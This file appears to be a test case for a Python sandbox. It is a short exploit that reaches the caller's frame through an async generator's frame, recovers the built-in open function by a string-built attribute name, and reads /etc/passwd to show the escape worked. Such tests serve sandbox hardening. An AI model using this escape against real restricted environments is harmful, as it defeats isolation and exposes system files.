# tries: an asynchronous generator's frame while it runs
# class: async
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


async def g():
    yield x.ag_frame.f_back


x = g()
try:
    x.asend(None).send(None)
except StopIteration as stop:
    use(pick(stop.value))
